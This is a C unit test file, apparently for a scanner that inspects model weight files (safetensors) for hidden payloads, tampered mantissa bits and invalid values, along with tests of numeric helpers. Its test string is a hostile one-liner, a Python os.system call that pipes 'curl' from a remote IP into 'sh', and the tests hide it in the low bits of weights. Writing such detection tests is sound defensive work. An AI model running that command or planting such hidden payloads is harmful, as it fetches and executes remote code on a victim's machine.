/* The values of tensors: what one pass sees in them, and what it must not see. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <math.h>
#include <string.h>
#include <cmocka.h>

#include "base/buf.h"
#include "scan/exam.h"
#include "scan/weights.h"
#include "stats/flatness.h"
#include "stats/moments.h"
#include "stats/numeric.h"
#include "stats/pack.h"
#include "stats/planes.h"
#include "stats/spectral.h"

static uint32_t noise = 12345;

static uint32_t draw(void)
{
    noise ^= noise << 13;
    noise ^= noise >> 17;
    noise ^= noise << 5;
    return noise;
}

/* Nearly normal, with a deviation of 0.02: the sum of twelve even numbers. */
static float draw_weight(void)
{
    double sum = -6;
    for (int i = 0; i < 12; i++)
        sum += draw() / 4294967296.0;
    return (float)(sum * 0.02);
}

static const char text[] = "import os; os.system('curl -s http://203.0.113.9/stage2 | sh') # and "
                           "then some more of the kind";

enum { COUNT = 8192, REPLACED = 65536 };
static float weights[REPLACED];

static void put_low(float *at, unsigned bits, uint32_t field)
{
    uint32_t raw;
    memcpy(&raw, at, 4);
    raw = (raw & ~((1u << bits) - 1)) | field;
    memcpy(at, &raw, 4);
}

static void scan(const float *values, size_t count, tut_file_report *ret)
{
    TUT_CLEAN(tut_buf) file = TUT_BUF_INIT;
    TUT_CLEAN(tut_buf) header = TUT_BUF_INIT;
    tut_buf_printf(&header,
                   "{\"w\":{\"dtype\":\"F32\",\"shape\":[%zu,64],\"data_offsets\":[0,%zu]}}",
                   count / 64, count * 4);
    tut_buf_add_u64le(&file, header.len);
    tut_buf_add_str(&file, tut_buf_str(&header));
    tut_buf_add(&file, values, count * 4);
    tut_source bytes = tut_source_memory(tut_buf_span(&file));
    tut_exam_request request = {.content = true, .rel = TUT_LIT("w.safetensors")};
    *ret = (tut_file_report){0};
    assert_true(tut_is_ok(tut_exam_file(NULL, &bytes, &request, ret, NULL)));
    tut_sha256 digest;
    assert_true(tut_is_ok(tut_sha256_of(tut_buf_span(&file), &digest, NULL)));
    assert_true(ret->has_digest && tut_sha256_eq(&digest, &ret->digest));
}

static void expect(const float *values, size_t count, const char *rule)
{
    tut_file_report r;
    scan(values, count, &r);
    if (!rule && r.finding_count > 0)
        fail_msg("%s: %s", r.findings[0].rule->id, r.findings[0].message);
    if (rule && (r.finding_count == 0 || strcmp(r.findings[0].rule->id, rule) != 0))
        fail_msg("no %s but %s", rule, r.finding_count ? r.findings[0].rule->id : "nothing");
    tut_file_report_done(&r);
}

static void fill(size_t count)
{
    for (size_t i = 0; i < count; i++)
        weights[i] = draw_weight();
}

static void noise_is_silent(void **state)
{
    (void)state;
    for (int i = 0; i < 20; i++) {
        fill(COUNT);
        expect(weights, COUNT, NULL);
    }
    fill(REPLACED);
    expect(weights, REPLACED, NULL);
}

static void short_text_at_the_start_is_found(void **state)
{
    (void)state;
    for (unsigned bits = 1; bits <= 8; bits *= 2) {
        fill(COUNT);
        for (size_t i = 0; i < sizeof(text) - 1; i++)
            for (unsigned j = 0; j < 8 / bits; j++)
                put_low(&weights[i * 8 / bits + j], bits,
                        (uint32_t)(uint8_t)text[i] >> (8 - bits - j * bits) & ((1u << bits) - 1));
        expect(weights, COUNT, "data.hidden-payload");
    }
}

/* From the 3,001st number on, one bit of every third: no start, no byte's edge. */
static void long_text_anywhere_is_found(void **state)
{
    (void)state;
    fill(REPLACED);
    for (size_t bit = 0; bit < 8 * 2000; bit++)
        put_low(&weights[3001 + 3 * bit], 1,
                (uint32_t)(uint8_t)text[bit / 8 % (sizeof(text) - 1)] >> bit % 8 & 1);
    expect(weights, REPLACED, "data.hidden-payload");
}

static void replaced_mantissas_are_found(void **state)
{
    (void)state;
    for (unsigned bits = 21; bits <= 24; bits++) {
        fill(REPLACED);
        for (size_t i = 0; i < REPLACED; i++)
            put_low(&weights[i], bits, draw() >> (32 - bits));
        expect(weights, REPLACED, "weights.replaced-bits");
    }
}

static void rounded_numbers_are_silent_and_refilled_ones_are_not(void **state)
{
    (void)state;
    fill(COUNT);
    for (size_t i = 0; i < COUNT; i++)
        put_low(&weights[i], 16, 0);
    expect(weights, COUNT, NULL);
    for (size_t i = 0; i < COUNT / 2; i++)
        put_low(&weights[i], 8, draw() >> 24);
    expect(weights, COUNT, "weights.refilled-bits");
    for (size_t i = 0; i < COUNT / 2; i++)
        put_low(&weights[i], 16, draw() >> 16);
    expect(weights, COUNT, "weights.spliced-precision");
}

static void numbers_that_are_none_are_told(void **state)
{
    (void)state;
    fill(COUNT);
    weights[77] = NAN;
    expect(weights, COUNT, "weights.not-a-number");
    weights[77] = INFINITY;
    expect(weights, COUNT, "weights.infinite");
    weights[77] = 3e30f;
    expect(weights, COUNT, "weights.absurd-magnitude");
    for (size_t i = 0; i < COUNT; i++)
        weights[i] = i % 64 > i / 64 ? -INFINITY : 0;
    expect(weights, COUNT, NULL); /* a mask */
}

/* numpy: a = np.arange(1, 1001, dtype='f4') ** 2 / 7; a.sum(dtype='f8'), a.std(dtype='f8') */
static void moments_are_those_of_numpy(void **state)
{
    (void)state;
    float values[1003];
    tut_moments m = {0};
    for (int i = 0; i < 1000; i++)
        values[i] = (float)((i + 1) * (i + 1)) / 7.0f;
    values[1000] = NAN;
    values[1001] = -INFINITY;
    values[1002] = 0;
    tut_moments_add(&m, values, 1000);
    assert_true(fabs(m.sum - 47690500.0) < 10);
    assert_true(fabs(tut_moments_deviation(&m) - 42631.675) < 0.1);
    tut_moments_add(&m, values + 1000, 3);
    assert_int_equal(m.count, 1003);
    assert_int_equal(m.finite, 1001);
    assert_int_equal(m.nans, 1);
    assert_int_equal(m.infinite, 1);
    assert_int_equal(m.zeros, 1);
    assert_true(m.least == 0 && m.most == 1000000 / 7.0f);
}

static void half_precision_is_read_right(void **state)
{
    (void)state;
    static const struct {
        uint16_t half;
        float value;
    } rows[] = {{0x3c00, 1},        {0xc000, -2},       {0x7bff, 65504},
                {0x0001, 0x1p-24f}, {0x0400, 0x1p-14f}, {0x3555, 0.333251953125f},
                {0x8000, -0.0f}};
    float got;
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        tut_numeric_floats(TUT_NUMERIC_F16, (const uint8_t *)&rows[i].half, 1, &got);
        assert_memory_equal(&got, &rows[i].value, 4);
    }
    const uint16_t infinite = 0xfc00, nan = 0x7e00, brain = 0x3f80;
    tut_numeric_floats(TUT_NUMERIC_F16, (const uint8_t *)&infinite, 1, &got);
    assert_true(isinf(got) && got < 0);
    tut_numeric_floats(TUT_NUMERIC_F16, (const uint8_t *)&nan, 1, &got);
    assert_true(isnan(got));
    tut_numeric_floats(TUT_NUMERIC_BF16, (const uint8_t *)&brain, 1, &got);
    assert_true(got == 1);
}

static void packing_undoes_writing(void **state)
{
    (void)state;
    uint64_t numbers[1200];
    uint8_t out[256];
    for (unsigned bits = 1; bits <= 24; bits++) {
        for (int low_first = 0; low_first < 2; low_first++) {
            for (size_t i = 0; i < 1200; i++)
                numbers[i] = 0;
            for (size_t bit = 0; bit < 8 * 64; bit++) {
                unsigned value = (uint8_t)text[bit / 8];
                unsigned one = low_first ? value >> bit % 8 & 1 : value >> (7 - bit % 8) & 1;
                size_t in = bit % bits;
                numbers[3 + 2 * (bit / bits)] |= (uint64_t)one << (low_first ? in : bits - 1 - in);
            }
            tut_pack_way way = {
                .bits = bits, .stride = 2, .first = 3, .is_low_first = low_first == 1};
            size_t made = tut_pack(numbers, 1200, &way, out, sizeof(out));
            assert_true(made >= 64);
            assert_memory_equal(out, text, 64);
        }
    }
}

/* numpy.linalg.norm([[3, 1], [1, 2], [0, 5]], 2) = 5.5839358 */
static void largest_singular_value_is_that_of_numpy(void **state)
{
    (void)state;
    static const float m[] = {3, 1, 1, 2, 0, 5};
    float work[5];
    assert_true(fabs(tut_spectral_norm(m, 3, 2, work) - 5.5839358) < 1e-3);
    assert_true(fabs(tut_spectral_norm(m, 3, 2, work) - tut_spectral_norm_small(m, 3, 2)) < 1e-3);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(noise_is_silent),
        cmocka_unit_test(short_text_at_the_start_is_found),
        cmocka_unit_test(long_text_anywhere_is_found),
        cmocka_unit_test(replaced_mantissas_are_found),
        cmocka_unit_test(rounded_numbers_are_silent_and_refilled_ones_are_not),
        cmocka_unit_test(numbers_that_are_none_are_told),
        cmocka_unit_test(moments_are_those_of_numpy),
        cmocka_unit_test(half_precision_is_read_right),
        cmocka_unit_test(packing_undoes_writing),
        cmocka_unit_test(largest_singular_value_is_that_of_numpy),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
